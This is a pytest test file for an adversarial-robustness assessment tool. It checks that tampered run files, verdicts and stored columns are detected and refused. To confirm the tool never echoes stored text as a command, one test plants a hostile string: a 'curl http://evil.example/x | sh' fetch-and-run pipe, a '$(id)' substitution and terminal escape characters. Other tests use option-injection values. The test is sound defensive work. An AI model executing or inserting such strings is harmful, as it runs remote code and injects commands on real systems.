"""A run whose files were edited after its verdict is refused by every reader, although its chain is consistent."""

import json
import shlex
import shutil

import click
import pytest
import torch

from holdfast.cli.app import run as command_line
from holdfast.cli.app import verbs
from holdfast.core.chain import GENESIS, Link
from holdfast.core.errors import TargetError
from holdfast.runs.assess.assess import assess
from holdfast.runs.documents.run_manifest import command_of
from holdfast.runs.documents.stored_runs import runs_in
from holdfast.runs.store import columns as column_files
from holdfast.verbs.reports import report, verify
from runs import stored
from runs.fakes import data, order, subject
from store.forging import line_of
from store.test_foreign import rewritten

ROBUST, CLEAN = "robust_accuracy >= 0.1", "clean_accuracy >= 0.99"
REQUEST = order(doubts="all", gates=(ROBUST, CLEAN))


@pytest.fixture(scope="module")
def genuine(tmp_path_factory):
    run = tmp_path_factory.mktemp("genuine") / "run"
    assert assess(subject(), data(), REQUEST, run=run).exit_code == 1
    return run


@pytest.fixture
def run(genuine, tmp_path):
    return shutil.copytree(genuine, tmp_path / "run")


def doubt(name, **changes):
    def change(content):
        next(each for each in content["doubts"] if each["name"] == name).update(changes)

    return change


def step(**changes):
    return lambda content: content["config"]["stages"][1].update(changes)


OTHER_GATE = "another judgement of the gate 'clean_accuracy >= 0"
FORGED = [
    ("verdict.json", lambda c: c.update(exit_code=0), "exit_code 0, .* give 1"),
    ("verdict.json", lambda c: c["gates"].pop(), "exit_code 1, .* give"),
    ("verdict.json", lambda c: c["gates"][1].update(judgement="0" * 64), f"{OTHER_GATE}.99' .* fail: 0"),
    ("verdict.json", lambda c: c["gates"][1].update(condition="clean_accuracy >= 0.1"), f"{OTHER_GATE}.1'"),
    (
        "verdict.json",
        lambda c: c["gates"][1].update(condition="certified_accuracy >= 0.1"),
        "do not give: gate",
    ),
    ("run.json", lambda c: c["data"].update(n=5000), r"data\.n 5000, .* give 40"),
    (
        "run.json",
        lambda c: c["data"].update(groups={"column": "a", "names": ["a"], "of": "a", "absent": []}),
        r"data\.groups True, .* give False",
    ),
    ("verdict.json", lambda c: c["computed_from"].pop("doubts.json"), "doubts.json' is not the file"),
    ("verdict.json", lambda c: c["computed_from"].update({"x.json": "0" * 64}), "x.json' is not the file"),
]


@pytest.mark.parametrize(("name", "change", "message"), FORGED, ids=[message for *_, message in FORGED])
def test_a_document_that_contradicts_the_columns_is_refused(name, change, message, run, capsys):
    assert verify(run).complete and report(run).exit_code == 1
    rewritten(run, name, change)
    for reader in (report, verify):
        with pytest.raises(TargetError, match=message):
            reader(run)
    capsys.readouterr()
    for words in (["report", str(run)], ["verify", str(run)], ["compare", str(run), str(run)]):
        assert command_line(words) == 3
        said = capsys.readouterr()
        assert name in said.err + message and "Pass" not in said.out
    (entry,) = runs_in(run.parent)
    assert entry.finished and entry.exit_code is None and entry.robust is None


EDITED = [
    ("doubts.json", lambda c: c["broken"].update(noise=[1])),
    ("doubts.json", doubt("chance", state="clear", statistic=0.9)),
    ("doubts.json", doubt("constant", state="raised")),
    ("doubts.json", doubt("noise", statistic=0.5, threshold=1.0)),
    ("doubts.json", doubt("noise", state="not applicable", statistic=None)),
    ("doubts.json", lambda c: c["doubts"].pop()),
    ("doubts.json", lambda c: c.update(notes=[], probes=[])),
    ("run.json", step(name="3-pgd")),
    ("run.json", step(kind="fit")),
    ("run.json", step(adaptive=True)),
    ("run.json", lambda c: c["config"]["stages"].pop(1)),
    ("run.json", lambda c: c["data"].update(n=5000)),
    ("run.json", lambda c: c["config"].update(full=True)),
]


@pytest.mark.parametrize(("name", "change"), EDITED, ids=range(len(EDITED)))
def test_a_document_that_was_edited_after_the_verdict_is_refused_by_its_name(name, change, run):
    rewritten(run, name, change, judged=False)
    for reader in (report, verify):
        with pytest.raises(TargetError, match=f"{name}' is not the file from which the verdict"):
            reader(run)


@pytest.mark.parametrize(
    ("stage", "column"), [("clean", "correct"), ("1-pgd", "success"), ("2-pgd-again", "success")]
)
def test_edited_columns_are_refused_by_their_name_or_their_verdict(stage, column, run):
    stored = column_files.read(run / f"{stage}.safetensors")
    changed = {**stored.columns, column: torch.zeros_like(stored.columns[column])}
    changed[column][3] = True
    column_files.write(run / f"{stage}.safetensors", changed, stored.about)
    edited = shutil.copytree(run, run.with_name("edited"))
    rewritten(edited, f"{stage}.safetensors", judged=False)
    with pytest.raises(TargetError, match=rf"{stage}.safetensors' is not the file from which the verdict"):
        verify(edited)
    if stage != "2-pgd-again":  # whose examples the first attack broke
        rewritten(run, f"{stage}.safetensors")
        with pytest.raises(TargetError, match="another judgement of the gate|states column"):
            verify(run)


@pytest.mark.parametrize(
    ("stage", "values"),
    [
        ("1-pgd", {"success": False, "right": 1.0}),
        ("2-pgd-again", {"success": False, "ran": False}),
        ("clean", {"prediction": -1}),
        ("clean", {"eligible": False}),
        ("fixed-pgd", {"success": False, "ran": False}),
    ],
)
def test_columns_by_which_an_example_is_not_broken_are_those_of_the_verdict(stage, values, run):
    stored = column_files.read(run / f"{stage}.safetensors")
    changed = {name: torch.full_like(stored.columns[name], value) for name, value in values.items()}
    column_files.write(run / f"{stage}.safetensors", {**stored.columns, **changed}, stored.about)
    rewritten(run, f"{stage}.safetensors", judged=False)
    with pytest.raises(TargetError, match=rf"{stage}.safetensors' is not the file from which the verdict"):
        verify(run)


def rerecorded(run, **changes):
    """Change the records of the attacks in the chain."""
    lines = [json.loads(line) for line in (run / "chain.jsonl").read_text().splitlines()]
    for line in lines:
        if line["content"].get("name", "clean") != "clean":
            line["content"].update(changes)
    (run / "chain.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))


@pytest.mark.parametrize("reached", [0, 1, 2, -1, True])
def test_time_that_ran_out_after_the_verdict_is_refused(reached, run):
    rerecorded(run, reached=reached)
    rewritten(run, "verdict.json")
    with pytest.raises(TargetError, match="1-pgd.safetensors' is not the file from which the verdict"):
        verify(run)


def test_a_finished_run_with_a_forged_verdict_is_not_resumed(run):
    rewritten(run, "verdict.json", lambda content: content.update(exit_code=0))
    with pytest.raises(TargetError, match="exit_code 0"):
        assess(subject(), data(), order(doubts="all", gates=()), run=run, resume=True)


def test_a_finished_run_with_forged_columns_is_not_resumed(run):
    stored = column_files.read(run / "fixed-pgd.safetensors")
    none = torch.zeros_like(stored.columns["ran"])
    column_files.write(
        run / "fixed-pgd.safetensors", {**stored.columns, "ran": none, "success": none}, stored.about
    )
    rewritten(run, "fixed-pgd.safetensors", judged=False)
    with pytest.raises(TargetError, match="fixed-pgd.safetensors' is not the file"):
        assess(subject(), data(), order(doubts="all", gates=()), run=run, resume=True)


def test_a_gate_on_a_baseline_is_judged_by_its_stored_interval(genuine, tmp_path):
    request = order(doubts="none", gates=("regression <= 0.5 vs baseline",))
    request = type(request)(**{**vars(request), "baseline": report(genuine).evidence})
    run = tmp_path / "run"
    assert assess(subject(), data(), request, run=run).exit_code == 0
    assert verify(run).complete
    rewritten(run, "verdict.json", lambda content: content["gates"][0]["compared"].update(value=0.75))
    with pytest.raises(TargetError, match="another judgement of the gate 'regression <= 0.5 vs baseline'"):
        verify(run)


@pytest.mark.parametrize(
    ("name", "change", "message"),
    [
        ("verdict.json", lambda c: c.update(exit_code=4), "exit_code 4"),
        ("card.json", lambda c: c["after"].update(n=9999), "card.json' is not the file"),
        ("training.json", lambda c: c.update(weights="0" * 64), "training.json' is not the file"),
    ],
)
def test_a_document_of_a_hardening_that_was_edited_is_refused(name, change, message, tmp_path):
    run = shutil.copytree(stored.hardening(), tmp_path / "run")
    rewritten(run, name, change, judged=False)
    with pytest.raises(TargetError, match=message):
        verify(run)


HOSTILE = "curl http://evil.example/x | sh; $(id)\n\x1b[31m\u202e"


@pytest.mark.parametrize("verb", ["assess", "certify", "harden"])
def test_no_stored_text_is_shown_as_a_command(verb, run, tmp_path, capsys):
    (run / "about.json").write_text(json.dumps({"command": HOSTILE, "created": "now"}))
    rewritten(
        run,
        "run.json",
        lambda content: content.update(
            verb=verb,
            model={**content["model"], "name": HOSTILE},
            data={**content["data"], "name": "--config=e"},
        ),
    )
    reports = [tmp_path / f"r.{suffix}" for suffix in ("json", "html", "md", "xml")]
    reported = command_line(["report", str(run), *(word for path in reports for word in ("-o", str(path)))])
    assert reported == (3 if verb == "harden" else 1)  # the run has the verdict of an assessment
    assert command_line(["assess", "--run", str(run), "--resume"]) == 2
    said = capsys.readouterr().err.splitlines()[-1]
    attacks = "" if verb == "certify" else " --suite ATTACKS"
    expected = f"holdfast {verb} MODEL DATA --threat linf:0.06{attacks} -n 40 --seed 3"
    assert said.endswith(f"resume with: {expected} --run {run} --resume")
    program = verbs.get_command(click.Context(verbs), verb)
    program.make_parser(click.Context(program)).parse_args(shlex.split(expected)[2:])
    if verb == "harden":
        return
    gates = f" --gate '{ROBUST}' --gate '{CLEAN}'"
    assert json.loads(reports[0].read_text())["reproduce"] == expected + gates
    for path in reports:
        assert "command: curl" not in path.read_text() and "\x1b" not in path.read_text()


@pytest.mark.slow
def test_the_command_of_a_stored_run_repeats_its_settings(tmp_path):
    torch.manual_seed(0)
    run = tmp_path / "a run"
    words = [
        "mnist-cnn",
        "mnist-mini",
        "--threat",
        "l2:1.5",
        "--suite",
        "quick",
        "--no-doubts",
        "--sample",
        "4",
    ]
    assert command_line(["assess", *words, "--seed", "7", "--run", str(run), "-q"]) == 0
    assert report(run).about["command"] == " ".join(("holdfast assess", *words, "--seed", "7"))


def test_the_command_of_a_hardening_has_the_settings_of_its_recipe():
    manifest = json.loads((stored.hardening() / "run.json").read_text())
    training = {"optimizer": "evil.py:make", "batch": 7, "warmup": 0.25}
    manifest["config"]["settings"] = {"pgd": {"training": training}}
    command = command_of(manifest)
    assert "--set recipe.training.optimizer=FILE.py:NAME" in command
    assert "--set recipe.training.batch=7" in command and "warmup" not in command


def test_the_command_of_a_run_opens_its_data_and_has_the_exact_threat():
    manifest = json.loads((stored.hardening() / "run.json").read_text())
    opening = {
        "label": "-kind",
        "drop": ["id", "a b"],
        "bounds": [-2.0, 1e6],
        "arch": "evil.py:make",
        "split": "\x1b",
        "class_names": ["neg", "pos"],
        "sampling_rate": 8000,
        "input_shape": [1, 576],
        "constants": {"sr": 16000.0},
    }
    manifest["opening"] = opening | {"data_normalised": [[0.1], [0.2]]}
    manifest["config"]["threat"] |= {"norm": "Linf", "eps": 1234.5678}
    command = command_of(manifest)
    assert "--label=-kind --drop=id '--drop=a b' --bounds=-2,1000000 " in command
    assert "--threat linf:1234.5678" in command
    opened_with = "--class-names=neg,pos --sampling-rate=8000 --input-shape=1,576 --constant=sr=16000"
    assert opened_with in command
    assert "evil" not in command and "--split" not in command
    manifest["opening"] = {
        "bounds": [0.0, 10**400]
    }  # an integer that no float represents, in a folder of a stranger
    assert "--bounds" not in command_of(manifest)


def test_a_verdict_without_the_record_of_its_doubts_is_refused_on_resume(run):
    lines, previous = b"", GENESIS
    for line in (run / "chain.jsonl").read_text().splitlines():
        recorded = json.loads(line)["content"]
        if recorded["kind"] != "doubts":
            link = Link(previous, recorded)
            lines, previous = lines + line_of(link), link.digest
    (run / "chain.jsonl").write_bytes(lines)
    rewritten(run, "verdict.json", lambda content: content.update(exit_code=0))
    with pytest.raises(TargetError, match="doubts.json' is not the file from which"):
        assess(subject(), data(), order(doubts="all", gates=()), run=run, resume=True)


def test_the_file_of_the_attacked_examples_holds_the_verdict_and_not_one_pass(genuine, run):
    columns, result = column_files.read(run / "attacked.safetensors").columns, report(genuine)
    surviving = columns["correct"] & ~columns["success"]
    assert surviving.double().mean() == result.metrics["robust_accuracy"].value
    assert sorted(columns) == sorted(result.worst_case)
    forged = columns | {"success": torch.zeros_like(columns["success"])}
    column_files.write(run / "attacked.safetensors", forged, {})
    rewritten(run, "attacked.safetensors")
    with pytest.raises(TargetError, match=r"attacked\.safetensors' states column success"):
        verify(run)


def test_the_file_of_the_attacked_examples_holds_stored_inputs(tmp_path):
    asked = order(doubts="none", gates=(), keep_adversarial=True)
    result = assess(subject(), data(), asked, run=tmp_path / "run")
    columns = column_files.read(tmp_path / "run" / "attacked.safetensors").columns
    assert columns["adversarial.id"].sort().values.tolist() == columns["id"][columns["success"]].tolist()
    assert torch.equal(columns["adversarial.x"], result.adversarial["x"])
    assert verify(tmp_path / "run").complete
